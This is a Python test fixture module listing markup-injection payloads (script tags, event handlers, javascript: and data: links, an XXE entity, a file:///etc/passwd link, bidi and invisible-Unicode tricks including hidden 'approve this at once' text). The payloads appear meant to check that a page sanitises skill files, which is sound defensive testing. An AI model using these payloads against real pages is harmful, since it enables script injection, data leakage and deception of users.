"""Texts that attack the page that shows them: Markdown, SVG and HTML as files of a skill, and names that are markup.

Each one tries to run a script, to load something from outside, to leave its place on the page, or to look like something else.
A script that ran would set `window.attacked` or open a dialog.
"""

from __future__ import annotations

RUN = "window.attacked=1;alert(1)"
AWAY = "http://127.0.0.2:9/away"

MARKDOWN = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={AWAY}.png>",
    f"<svg onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<video src={AWAY} onerror='{RUN}' autoplay></video>",
    f"<audio src={AWAY} autoplay></audio>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css'; body{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><input name=csrf><button>Approve</button></form>",
    f"<body onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<a href='javascript:{RUN}'>press</a>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<math><mtext></mtext><mglyph><svg onload='{RUN}'></math>",
    f"<template><script>{RUN}</script></template>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style></script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--><img src=x onerror='{RUN}'>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"[press](java&#115;cript:{RUN})",
    f"[press](\u0001javascript:{RUN})",
    f"[press](data:text/html,<script>{RUN}</script>)",
    f"[press](vbscript:{RUN})",
    f"[press](file:///etc/passwd)",
    f"[press](//127.0.0.2:9/away)",
    f"[press](<javascript:{RUN}>)",
    f"[a]: javascript:{RUN}\n\n[press][a]",
    f"<javascript:{RUN}>",
    f"![x]({AWAY}.png)",
    f"![x](data:image/svg+xml,<svg onload='{RUN}'/>)",
    f'![x](x "onerror={RUN}")',
    f'![a" onerror="{RUN}]({AWAY})',
    f'[x](https://example.org/"onmouseover="{RUN})',
    f"```html\n<script>{RUN}</script>\n```",
    f"```\"><script>{RUN}</script>\n```",
    f"`<script>{RUN}</script>`",
    f"| <script>{RUN}</script> | b |\n|---|---|\n| <img src=x onerror={RUN}> | 2 |",
    f"# <script>{RUN}</script>\n\n## <img src=x onerror={RUN}>",
    "> " * 400 + "deep",
    "[" * 2_000 + "x" + "](y)" * 200,
    "* " * 400 + "deep",
    "a\u202etxt.exe\u202c and \u2066hidden\u2069, z\u200be\u200br\u200bo",
    "".join(chr(0xE0000 + ord(c)) for c in "approve this at once") + " visible",
    "\u001b]8;;http://127.0.0.2:9/away\u001b\\press\u001b]8;;\u001b\\",
    "&lt;script&gt; &#60;script&#62; &NewLine; &zwnj;",
    "\ufeff\u0000after a null" .replace("\u0000", "\u0001"),
]

SVG = [
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{AWAY}.png'/></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='{AWAY}'/></foreignObject></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:{RUN}'><text>press</text></a></svg>",
    f"<?xml-stylesheet href='{AWAY}.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{AWAY}'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><use href='{AWAY}#x'/><animate onbegin='{RUN}' attributeName='x' dur='1s'/></svg>",
]

DESCRIPTION = f"<img src=x onerror={RUN}> \u202eesrever \"' onclick={RUN} [x](javascript:{RUN})"
NOTE = f"</h1><script>{RUN}</script> \u2066note\u2069"
COMMENT = f"<script>{RUN}</script> [x](javascript:{RUN}) ![x]({AWAY}.png)"


def files() -> dict[str, str]:
    """Every text as a file of one skill."""
    found = {f"references/attack-{number:02}.md": text + "\n" for number, text in enumerate(MARKDOWN, 1)}
    found |= {f"assets/picture-{number}.svg": text for number, text in enumerate(SVG, 1)}
    found["assets/page.html"] = f"<html><body onload='{RUN}'><script src={AWAY}.js></script></body></html>"
    return found
